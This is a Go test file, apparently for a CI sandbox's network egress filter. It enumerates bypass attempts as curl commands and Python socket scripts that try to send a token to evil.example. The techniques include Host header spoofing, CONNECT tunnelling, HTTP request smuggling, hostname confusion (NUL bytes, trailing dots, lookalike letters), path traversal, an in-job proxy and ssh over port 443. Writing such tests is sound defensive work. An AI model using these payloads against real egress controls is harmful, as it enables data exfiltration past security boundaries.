package bypass

import (
	"strings"

	"github.com/mayfly-ci/mayfly/sandbox/egress"
)

// rawHTTP sends what is written, on one connection.
const rawHTTP = `
import socket, sys
T = sys.argv[1]
s = socket.create_connection(("good.example", 80), 20)
def say(head, body=""): s.sendall((head.replace("\n", "\r\n") + "\r\n\r\n" + body).encode("latin-1")); return s.recv(4096)
`

// proxy is a proxy of the job's own, which connects to what it is asked for.
const proxy = `
import socket, sys, threading
l = socket.create_server(("127.0.0.1", 0)); port = l.getsockname()[1]
def serve():
    c, _ = l.accept(); c.settimeout(20)
    to = c.recv(4096).split()[1].decode().rsplit(":", 1)
    try: u = socket.create_connection((to[0], int(to[1])), 20)
    except OSError: c.sendall(b"HTTP/1.1 502 no\r\n\r\n"); c.close(); return
    c.sendall(b"HTTP/1.1 200 yes\r\n\r\n"); u.sendall(c.recv(4096)); c.sendall(u.recv(4096)); c.close()
threading.Thread(target=serve, daemon=True).start()
import subprocess
`

// hostRows are those of who is meant.
func hostRows() map[string][]attack {
	host := because("the request is for host")
	honest := curl + "https://good.example/$1"
	return map[string][]attack{
		"B10": {
			{what: "another host at an allowed address", script: curl + "https://shared.example/$1", line: question("shared.example"), honest: honest},
			{what: "the same, by its virtual address", script: curl + "--connect-to ::good.example: https://shared.example/$1", line: because("asks for shared.example")},
			{what: "the same, without TLS", script: curl + "-H 'Host: shared.example' http://good.example/$1", line: host},
		},
		"B11": {
			{what: "an allowed server name at an address of the attacker's", script: curl + "--resolve good.example:443:" + evilAddress + " https://good.example/$1", line: packet("tcp", evilAddress, 443), honest: honest},
		},
		"B12": {
			{what: "another Host inside TLS", script: curl + "-H 'Host: evil.example' https://good.example/$1", line: host, honest: honest},
			{what: "the same, HTTP/1.1", script: curl + "--http1.1 -H 'Host: evil.example' https://good.example/$1", line: host},
			{what: "another server name", script: curl + "--connect-to ::good.example: https://evil.example/$1", line: because("asks for evil.example")},
			{what: "another server name where TLS passes through", script: curl + "--connect-to ::good.example: https://evil.example:8443/$1", line: because("asks for evil.example")},
			{what: "another port in Host", script: curl + "-H 'Host: good.example:8080' https://good.example/$1", line: because("the request is for port")},
			{what: "CONNECT", script: py(rawHTTP, `say(f"CONNECT {T}.evil.example:443 HTTP/1.1\nHost: {T}.evil.example:443")`), line: because("CONNECT")},
			{what: "CONNECT to an allowed host", script: curl + "-p -x http://good.example:80 https://$1.evil.example/", line: because("CONNECT")},
		},
		"B13": {
			{what: "an encrypted ClientHello", script: "MAYFLY_BYPASS_CLIENT=good.example:443 $CLIENT $1", line: because("encrypted part"), honest: honest},
			{what: "the same where TLS passes through", script: "MAYFLY_BYPASS_CLIENT=good.example:8443 $CLIENT $1", line: because("encrypted part"), honest: curl + "https://good.example:8443/$1"},
		},
		"B14": {
			{what: "another host on a connection that is open", script: py(rawHTTP, `say("GET /first HTTP/1.1\nHost: good.example"); say(f"GET /{T} HTTP/1.1\nHost: evil.example")`), line: host, honest: py(rawHTTP, `say("GET /first HTTP/1.1\nHost: good.example"); say(f"GET /{T} HTTP/1.1\nHost: good.example")`)},
			{what: "HTTP/2 without TLS, by upgrade", script: curl + "--http2 http://good.example/$1", line: because("upgrade")},
			{what: "HTTP/2 without TLS, at once", script: curl + "--http2-prior-knowledge -H \"x: $1\" -A \"$1\" -X \"$1\" http://good.example/ || true; " + py(rawHTTP, `say("PRI * HTTP/2.0\n\nSM\n\n" + T)`), line: because("HTTP/2")},
			{what: "an upgrade to something else", script: curl + "-H 'Connection: Upgrade' -H 'Upgrade: tunnel' http://good.example/$1", line: because("upgrade")},
		},
	}
}

// requestRows are those of what is said there.
func requestRows() map[string][]attack {
	host, path := because("the request is for host"), because("the rule allows")
	return map[string][]attack{
		"B15": {
			{what: "two lengths", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 4\nContent-Length: 60", f"abcdGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), line: because("read in two ways")},
			{what: "length and chunks", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 90\nTransfer-Encoding: chunked", f"0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), arrives: "GET /", line: because("Content-Length stands beside")},
			{what: "two hosts", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nHost: evil.example")`), line: because("read in two ways")},
			{what: "a target beside the host", script: py(rawHTTP, `say(f"GET http://evil.example/{T} HTTP/1.1\nHost: good.example")`), line: because("host")},
			{what: "a folded field", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nX: a\n\tb\nHost : evil.example")`), line: because("read in two ways")},
		},
		"B16": {
			{what: "a NUL in a server name's host", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\0.evil.example")`), line: because("read in two ways")},
			{what: "a final dot", script: curl + "http://evil.example./$1", line: question("evil.example")},
			{what: "a final dot of an allowed name's host", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example.")`), line: host},
			{what: "upper case", script: curl + "http://EVIL.Example/$1", line: question("evil.example"), honest: curl + "http://GOOD.Example/$1"},
			{what: "letters that look alike", script: curl + "http://xn--god-6na.example/$1", line: question("xn--god-6na.example")},
			{what: "an allowed name before the real one", script: "getent hosts good.example.$1.evil.example", line: question("evil.example")},
			{what: "a user that looks like the host", script: curl + "http://good.example@evil.example/$1", line: question("evil.example")},
			{what: "bytes that are no host name", script: py(dnsPacket, `s.sendto(ask("good*" + T + ".evil.example"), ("192.0.2.53", 53)); s.recv(512)`), line: because("not a host name")},
		},
		"B17": {
			{what: "a redirect", script: curl + "-L http://good.example/away/$1", arrives: "GET /moved/", line: question("evil.example"), honest: curl + "http://good.example/away/$1"},
		},
		"B20": {
			{what: "another tenant of an allowed host", script: curl + "https://repo.example/evil/app/$1", line: path, honest: curl + "https://repo.example/acme/app/$1"},
			{what: "the same, by dots", script: curl + "--path-as-is https://repo.example/acme/app/../../evil/app/$1", line: path},
			{what: "the same, by encoded dots", script: curl + "--path-as-is https://repo.example/acme/app/%2e%2e/%2e%2e/evil/$1", line: path},
		},
		"B21": {
			{what: "a token of the attacker's", script: curl + "-H \"Authorization: Bearer $1\" https://tenant.example/", line: because("brings another"), honest: curl + "-H 'Authorization: Bearer " + placeholder + "' https://tenant.example/$1"},
			{what: "a password of the attacker's", script: curl + "-u attacker:x -H \"Authorization: Basic $1\" https://tenant.example/", line: because("brings another")},
			{what: "a token beside the placeholder", script: curl + "-H 'Authorization: Bearer " + placeholder + "' -H \"Authorization: Bearer $1\" https://tenant.example/", line: because("tripwire")},
			{what: "a session of the attacker's", script: curl + "-b session=$1 https://tenant.example/"},
		},
		"B22": {
			{what: "a write where reading is allowed", script: curl + "-H 'Expect:' -T /etc/hostname https://repo.example/acme/app/$1", line: path, honest: curl + "https://repo.example/acme/app/$1"},
			{what: "a method of an override", script: curl + "-X DELETE https://repo.example/acme/app/$1", line: path},
		},
		"B29": {
			{what: "a proxy inside the job, by name", script: py(proxy, `
subprocess.run(["curl", "-skp", "-m", "20", "-x", f"http://127.0.0.1:{port}", f"http://evil.example/{sys.argv[1]}"])`), line: question("evil.example"), honest: py(proxy, `
subprocess.run(["curl", "-skp", "-m", "20", "-x", f"http://127.0.0.1:{port}", f"http://good.example/{sys.argv[1]}"])`)},
			{what: "a proxy inside the job, by address", script: py(proxy, `
subprocess.run(["curl", "-skp", "-m", "20", "-x", f"http://127.0.0.1:{port}", f"http://`+evilAddress+`/{sys.argv[1]}"])`), line: packet("tcp", evilAddress, 80)},
		},
		"B30": {
			{what: "more than a rule's budget", script: `{ head -c 4096 /dev/zero; echo "$1"; } | ` + curl + "-H 'Expect:' -T - -X POST https://repo.example/acme/upload", line: func(l egress.Line) bool {
				return l.Verdict == egress.Ended && strings.Contains(l.Reason, "1024")
			}, honest: `echo "$1" | ` + curl + "-H 'Expect:' -T - -X POST https://repo.example/acme/upload"},
		},
		"B31": {
			{what: "ssh at the port of https", script: "ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no -p 443 x@good.example; " + py("", `
import socket, sys; s = socket.create_connection(("good.example", 443), 20); s.sendall(b"SSH-2.0-" + sys.argv[1].encode() + b"\r\n"); s.shutdown(1); s.recv(99)`), line: because("not a ClientHello")},
			{what: "ssh where TLS passes through", script: py("", `
import socket, sys; s = socket.create_connection(("good.example", 8443), 20); s.sendall(b"SSH-2.0-" + sys.argv[1].encode() + b"\r\n"); s.shutdown(1); s.recv(99)`), line: because("not a ClientHello")},
			{what: "git over ssh", script: "git -c core.sshCommand='ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no -p 443' ls-remote ssh://$1@good.example/x; " + py("", `
import socket, sys; s = socket.create_connection(("good.example", 22), 20); s.sendall(b"SSH-2.0-" + sys.argv[1].encode() + b"\r\n")`), line: because("no rule for port 22")},
		},
		"B32": {
			{what: "a WebSocket that no rule has", script: curl + "--http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' https://good.example/$1", line: because("websocket: true")},
		},
	}
}
